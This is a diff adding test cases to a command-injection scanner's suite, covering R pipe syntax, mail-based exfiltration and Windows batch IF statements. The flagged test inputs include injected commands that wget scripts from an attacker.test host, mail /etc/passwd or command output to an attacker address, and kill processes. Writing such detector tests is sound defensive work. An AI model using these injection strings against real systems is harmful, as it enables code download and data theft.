@@ -1069,3 +1069,43 @@ describe('cmdi round 8: echo or cat alone before ; opening the value, or ending 
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe("cmdi round 9: R's %>% after a command is checked to its end (shell: % an argument, >% a redirection)", () => {
+  it.each([[';wget %>%x attacker.test/x.sh', 'cmdi.chained-command'], [';wget %>% -O /tmp/x attacker.test/x', 'cmdi.chained-command'],
+    [';touch %>% /tmp/pwned', 'cmdi.chained-command'], [';kill %>% -9 1', 'cmdi.chained-command'], [';ls %>% -la /', 'cmdi.chained-command'],
+    [';wget %>% attacker.test/x', 'cmdi.chained-command'], [';ls %<>%x', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['df %>% filter(x > 1) %>% select(id, name)', 'x %>% head', 'sort %>% head(5)', 'cat %>% unique', 'df %>% tail',
+    'date %>% as.Date()', 'mtcars %>% group_by(cyl)', 'ls %>% names', 'df %>%\n  filter(id == 2)', 'x %<>% sort', 'cat %>% dplyr::filter(n > 1)'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 9: mail or msmtp piped into and given a recipient mails the output out; mail alone reads a mailbox', () => {
+  it.each([['id|mail a@attacker.test', 'cmdi.chained-command'], ['id|msmtp a@attacker.test', 'cmdi.chained-command'],
+    ['set|mail a@attacker.test', 'cmdi.chained-command'], ['x | id | mail a@attacker.test', 'cmdi.chained-command'],
+    ['ID | Name | mail a@attacker.test', 'cmdi.chained-command'], ['id|mail -s x a@attacker.test', 'cmdi.chained-command'],
+    ['; mail -s x a@attacker.test < /etc/passwd', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['ID | Mail | Phone', 'Name | ID | Email | Mail', 'Echo; Delta; Mail', 'ID | Name | Mail', 'Home | About | mail us',
+    'Send it by mail to ana@example.com', 'x | msmtp'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 9: IF x == y waits for the command cmd.exe would run; "or"/"and" there is Python or Ruby', () => {
+  it.each(['&if 1==1 whoami', 'if %1==x goto end', 'IF "%a%"=="b" echo hi', 'if a == b', 'if a == b\nwhoami', '& if x==x calc', 'IF a==a (calc)'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.windows-batch');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(["if x == 1 or y == 2: print('ok')", 'if a == b and c', 'if x == 1 or y'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
